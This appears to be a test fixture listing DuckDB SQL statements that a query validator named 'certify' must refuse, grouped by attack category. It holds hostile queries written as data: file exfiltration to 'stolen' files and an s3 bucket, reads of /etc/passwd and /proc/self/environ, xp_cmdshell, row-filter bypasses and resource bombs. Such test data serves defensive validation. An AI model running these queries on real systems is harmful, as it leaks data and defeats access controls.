-- What certify must refuse, one attack a line. {east} stands for the row filter of loan_snapshot, {east_branch} for that of branch.
-- "raw: runs" says that DuckDB runs every line of the category for the owner of the file (a test does it); "raw: parses" that it reads them;
-- "raw: no" that it cannot even read them here (another engine's words, or a form this version lacks).

-- category: writing statements
-- raw: runs
DELETE FROM loan_snapshot
UPDATE loan_snapshot SET balance = 0
INSERT INTO product SELECT * FROM product WHERE FALSE
DROP TABLE IF EXISTS product
TRUNCATE loan_snapshot
CREATE TABLE copied AS SELECT * FROM loan_snapshot
CREATE OR REPLACE VIEW product_view AS SELECT * FROM product
CREATE TEMP TABLE held AS SELECT * FROM customer
ALTER TABLE product ADD COLUMN note VARCHAR
CREATE MACRO twice(x) AS x * 2
CREATE SEQUENCE numbers
CREATE SCHEMA hidden
COMMENT ON TABLE product IS 'read me'
MERGE INTO product AS p USING product AS q ON p.product_id = q.product_id WHEN MATCHED THEN DELETE
VACUUM
CHECKPOINT
BEGIN TRANSACTION

-- category: writing inside a SELECT
-- raw: parses
WITH gone AS (DELETE FROM product RETURNING product_id) SELECT product_id FROM gone LIMIT 5
WITH made AS (INSERT INTO product SELECT * FROM product RETURNING *) SELECT product_id FROM made LIMIT 5
WITH set_ AS (UPDATE product SET product_name = 'x' RETURNING product_id) SELECT product_id FROM set_ LIMIT 5

-- category: stacked statements
-- raw: runs
SELECT 1 LIMIT 1; DROP TABLE IF EXISTS nothing_here
SELECT 1 LIMIT 1; SELECT id_no FROM customer LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5; CREATE TABLE stacked (x INTEGER)
SELECT 1 LIMIT 1 /* ; */; SELECT 2 LIMIT 1
SELECT ';' LIMIT 1; SELECT 2 LIMIT 1

-- category: commands
-- raw: runs
COPY product TO 'stolen.csv'
COPY (SELECT * FROM customer) TO 'stolen.parquet' (FORMAT parquet)
EXPORT DATABASE 'stolen'
ATTACH ':memory:' AS other
ATTACH 'other.duckdb' AS other_file
USE main
PRAGMA database_list
PRAGMA table_info('customer')
SET threads = 2
SET VARIABLE hidden = 1
RESET threads
SET enable_external_access = false
LOAD parquet
CALL pragma_version()
EXPLAIN SELECT id_no FROM customer
EXPLAIN ANALYZE SELECT id_no FROM customer
DESCRIBE customer
SHOW TABLES
SUMMARIZE customer
PREPARE leak AS SELECT id_no FROM customer

-- category: commands that need a network or an extension
-- raw: parses
INSTALL httpfs
LOAD httpfs
ATTACH 'dbname=bank host=10.0.0.1' AS pg (TYPE postgres)
FORCE INSTALL spatial
COPY product TO 's3://bucket/stolen.csv'
CREATE SECRET mine (TYPE s3, KEY_ID 'a', SECRET 'b')

-- category: files and the network
-- raw: parses
SELECT * FROM read_csv('/etc/passwd') LIMIT 5
SELECT t.line FROM (SELECT line FROM read_csv('/etc/passwd')) AS t LIMIT 5
SELECT r.content FROM read_text('/etc/hosts') AS r LIMIT 1
SELECT r.content FROM read_blob('/proc/self/environ') AS r LIMIT 1
SELECT * FROM '/etc/passwd' LIMIT 5
SELECT p.a FROM "stolen.parquet" AS p LIMIT 5
SELECT j.a FROM read_json_auto('https://example.org/x.json') AS j LIMIT 5
SELECT g.file FROM glob('/home/*') AS g LIMIT 5
SELECT s.x FROM parquet_scan('a.parquet') AS s LIMIT 5
SELECT s.x FROM sniff_csv('a.csv') AS s LIMIT 5
SELECT (SELECT MAX(content) FROM read_text('/etc/hosts')) AS leak LIMIT 1
WITH f AS (SELECT * FROM read_csv_auto('/etc/passwd')) SELECT f.column0 FROM f LIMIT 5

-- category: functions that make tables
-- raw: runs
SELECT r.range FROM range(1000) AS r LIMIT 5
SELECT g.x FROM generate_series(1, 100) AS g(x) LIMIT 5
SELECT UNNEST([1, 2, 3]) AS x LIMIT 5
SELECT u.x FROM UNNEST([1, 2]) AS u(x) LIMIT 5
SELECT q.id_no FROM query('SELECT id_no FROM customer') AS q LIMIT 5
SELECT q.id_no FROM query_table('customer') AS q LIMIT 5
SELECT r.x FROM repeat_row(1, num_rows = 10) AS r(x) LIMIT 5
SELECT d.balance FROM (SELECT UNNEST([1, 2]) AS balance) AS d LIMIT 5

-- category: the catalog, settings and secrets
-- raw: runs
SELECT t.table_name FROM duckdb_tables() AS t LIMIT 5
SELECT table_name FROM information_schema.tables LIMIT 5
SELECT column_name FROM duckdb_columns LIMIT 5
SELECT name FROM sqlite_master LIMIT 5
SELECT relname FROM pg_catalog.pg_class LIMIT 5
SELECT s.name FROM duckdb_settings() AS s LIMIT 5
SELECT s.name FROM duckdb_secrets() AS s LIMIT 5
SELECT p.name FROM pragma_table_info('customer') AS p LIMIT 5
SELECT i.database_size FROM pragma_database_size() AS i LIMIT 5
SELECT current_setting('memory_limit') AS v LIMIT 1
SELECT current_user AS who LIMIT 1
SELECT session_user AS session_user_ LIMIT 1
SELECT current_database() AS d LIMIT 1
SELECT version() AS v LIMIT 1
SELECT current_query() AS q LIMIT 1
SELECT getvariable('hidden') AS v LIMIT 1
SELECT CURRENT_DATE AS today LIMIT 1
SELECT NOW() AS now LIMIT 1

-- category: environment, sleep, chance and locks
-- raw: runs
SELECT RANDOM() AS x LIMIT 1
SELECT gen_random_uuid() AS x LIMIT 1
SELECT setseed(0.5) AS x LIMIT 1
SELECT sleep_ms(1) AS x LIMIT 1
SELECT write_log('hello') AS x LIMIT 1
SELECT hash('a') AS x LIMIT 1

-- category: words of other engines
-- raw: no
SELECT product_id INTO stolen FROM product LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product FOR UPDATE) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 FOR UPDATE
SELECT current_user AS current_user LIMIT 1
SELECT getenv('HOME') AS x LIMIT 1
SELECT pg_read_file('/etc/passwd') AS x LIMIT 1
SELECT LOAD_FILE('/etc/passwd') AS x LIMIT 1
SELECT BENCHMARK(1000000, 1) AS x LIMIT 1
EXEC xp_cmdshell 'dir'
SELECT p.product_id FROM (SELECT product_id FROM product) AS p INTO OUTFILE 'x' LIMIT 5
GRANT ALL ON product TO public
SELECT GET_LOCK('a', 10) AS x LIMIT 1

-- category: quoting, comments and look-alikes
-- raw: runs
SELECT id_no /* the region's own */ FROM customer LIMIT 5
SELECT "ID_NO" FROM "Customer" LIMIT 5
SELECT c."id_no" FROM main.customer AS c LIMIT 5
SELECT $$a$$ || $x$b$x$ AS x LIMIT 1
SELECT E'a\x27b' AS x LIMIT 1
SELECT p.product_id /* a /* b */ c */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p -- /* LIMIT 5
WITH "ｐroduct" AS (SELECT 1 AS product_id) SELECT t.product_id FROM "ｐroduct" AS t LIMIT 5
WITH "prоduct" AS (SELECT 1 AS product_id) SELECT t.product_id FROM "prоduct" AS t LIMIT 5
SELECT "产​品" FROM (SELECT product_name AS "产​品" FROM product) AS p LIMIT 5
SELECT p.product_id AS "a‮b" FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT customer FROM customer LIMIT 5
SELECT p FROM (SELECT product_id FROM product) AS p LIMIT 5

-- category: friendly forms of DuckDB
-- raw: runs
FROM product
FROM product LIMIT 5
TABLE product
SELECT * FROM product LIMIT 5
SELECT p.* FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT * EXCLUDE (id_no) FROM customer LIMIT 5
SELECT COLUMNS('id.*') FROM customer LIMIT 5
SELECT #1 FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_name.upper() AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT [x.product_id] AS a FROM (SELECT product_id FROM product) AS x LIMIT 5
SELECT {'a': p.product_id} AS a FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p ORDER BY ALL LIMIT 5
SELECT p.product_id, COUNT(*) AS n FROM (SELECT product_id FROM product) AS p GROUP BY ALL LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p USING SAMPLE 2
SELECT p.product_id FROM (SELECT product_id FROM product) AS p TABLESAMPLE 50% LIMIT 5
SELECT DISTINCT ON (p.product_line) p.product_id FROM (SELECT product_id, product_line FROM product) AS p LIMIT 5
SELECT p.x FROM (PIVOT (SELECT product_id, product_line FROM product) ON product_line USING COUNT(*)) AS p(x) LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 OFFSET 1
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 10%
SELECT LIST(p.product_id) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT STRING_AGG(p.product_name, ',') AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT CAST(p.product_id AS INTEGER[]) AS x FROM (SELECT NULL AS product_id) AS p LIMIT 5
SELECT LIST_TRANSFORM([1, 2], lambda x: x + 1) AS x LIMIT 1

-- category: reading a granted table in another form
-- raw: runs
SELECT balance FROM loan_snapshot LIMIT 5
SELECT balance FROM loan_snapshot WHERE {east} LIMIT 5
SELECT s.b FROM (SELECT SUM(balance) AS b FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot AS l WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT loan_snapshot.balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT DISTINCT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} ORDER BY balance) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} LIMIT 1) AS s LIMIT 5
SELECT s.balance FROM (SELECT l.balance FROM loan_snapshot AS l LEFT JOIN branch AS b ON b.branch_id = l.branch_id WHERE {east_branch}) AS s LIMIT 5
SELECT s.x FROM (SELECT balance + 1 AS x FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.product_id FROM (product) AS s LIMIT 5

-- category: getting past the row filter
-- raw: runs
SELECT s.balance FROM (SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} OR TRUE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) OR balance > 0) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE NOT ({east})) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) IS NOT NULL) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) = FALSE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE CASE WHEN {east} THEN TRUE ELSE TRUE END) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华南区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区', '华南区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区') OR TRUE)) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch)) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE loan_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id NOT IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE balance > 0) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE 'branch_id IN (SELECT branch_id FROM branch)' <> '') AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE balance > 0 /* {east} */) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance, branch_id FROM loan_snapshot) AS s WHERE s.{east} LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} UNION ALL SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s UNION SELECT balance FROM loan_snapshot LIMIT 5
SELECT b.branch_name FROM (SELECT branch_name FROM branch) AS b LIMIT 5
SELECT p.product_name FROM (SELECT product_name, product_id FROM product) AS p WHERE EXISTS(SELECT 1 FROM loan_snapshot AS l WHERE l.product_id = p.product_id) LIMIT 5
SELECT p.product_name, (SELECT SUM(balance) FROM loan_snapshot AS l WHERE l.product_id = p.product_id) AS b FROM (SELECT product_name, product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product WHERE product_id IN (SELECT product_id FROM loan_snapshot)) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LEFT JOIN loan_snapshot AS l ON l.product_id = p.product_id LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LEFT JOIN (SELECT product_id, balance FROM loan_snapshot) AS l ON l.product_id = p.product_id LIMIT 5
SELECT s.branch_id FROM (SELECT balance AS branch_id FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH branch AS (SELECT b.branch_id, '华东区' AS region_name FROM (SELECT product_id AS branch_id FROM product) AS b) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH BRANCH AS (SELECT 1 AS branch_id, '华东区' AS region_name) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH loan_snapshot AS (SELECT 1 AS balance) SELECT s.balance FROM loan_snapshot AS s LIMIT 5
SELECT s.balance FROM (WITH branch AS (SELECT 3 AS branch_id, '华东区' AS region_name) SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5

-- category: hidden tables and columns
-- raw: runs
SELECT c.id_no FROM (SELECT id_no FROM customer) AS c LIMIT 5
SELECT c.n FROM (SELECT id_no AS n FROM customer) AS c LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id FROM customer WHERE phone LIKE '138%') AS c LIMIT 5
SELECT c.customer_name FROM (SELECT id_no AS customer_name FROM customer) AS c LIMIT 5
SELECT c.r FROM (SELECT rowid AS r FROM customer) AS c LIMIT 5
SELECT d.balance FROM (SELECT balance FROM deposit_snapshot) AS d LIMIT 5
SELECT p.product_name FROM (SELECT product_name FROM main.product) AS p LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id FROM customer) AS c WHERE c.customer_id IN (SELECT customer_id FROM deposit_snapshot) LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id, (SELECT MAX(phone) FROM customer) AS phone FROM customer) AS c LIMIT 5
WITH d AS (SELECT balance FROM deposit_snapshot) SELECT d.balance FROM d LIMIT 5

-- category: joins that multiply
-- raw: parses
SELECT a.product_id FROM (SELECT product_id FROM product) AS a, (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON TRUE LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON 1 = 1 LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON a.product_id = a.product_id LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON a.product_id = b.product_id OR TRUE LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a NATURAL JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a POSITIONAL JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a, LATERAL (SELECT a.product_id AS x) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT a.product_id AS x) AS b ON a.product_id = b.x LIMIT 5

-- category: resource bombs
-- raw: parses
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT n.i FROM n LIMIT 5
WITH RECURSIVE n(i) AS (SELECT 1) SELECT n.i FROM n LIMIT 5
SELECT REPEAT('x', 1000000000) AS x LIMIT 1
SELECT LPAD('x', 2000000000, 'y') AS x LIMIT 1
SELECT LPAD('x', p.product_id, 'y') AS x FROM (SELECT product_id FROM product) AS p LIMIT 1
SELECT REGEXP_MATCHES(p.product_name, '(a+)+$') AS x FROM (SELECT product_name FROM product) AS p LIMIT 1
WITH a AS (SELECT product_id FROM product), b AS (SELECT 1 AS x FROM a UNION ALL SELECT 1 FROM a UNION ALL SELECT 1 FROM a UNION ALL SELECT 1 FROM a), c AS (SELECT 1 AS x FROM b UNION ALL SELECT 1 FROM b UNION ALL SELECT 1 FROM b UNION ALL SELECT 1 FROM b), d AS (SELECT 1 AS x FROM c UNION ALL SELECT 1 FROM c UNION ALL SELECT 1 FROM c UNION ALL SELECT 1 FROM c), e AS (SELECT 1 AS x FROM d UNION ALL SELECT 1 FROM d UNION ALL SELECT 1 FROM d UNION ALL SELECT 1 FROM d), f AS (SELECT 1 AS x FROM e UNION ALL SELECT 1 FROM e UNION ALL SELECT 1 FROM e UNION ALL SELECT 1 FROM e), g AS (SELECT 1 AS x FROM f UNION ALL SELECT 1 FROM f UNION ALL SELECT 1 FROM f UNION ALL SELECT 1 FROM f) SELECT COUNT(*) AS n FROM g LIMIT 1

-- category: no row limit, or not a plain one
-- raw: runs
SELECT p.product_id FROM (SELECT product_id FROM product) AS p
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 102
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 0
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 + 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT (SELECT 5)
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT NULL
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT ALL
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5.5
(SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5)
(SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5) UNION ALL (SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5)
VALUES (1), (2)

-- category: parameters
-- raw: parses
SELECT ? AS x LIMIT 1
SELECT $1 AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product WHERE product_id = $id) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT $1
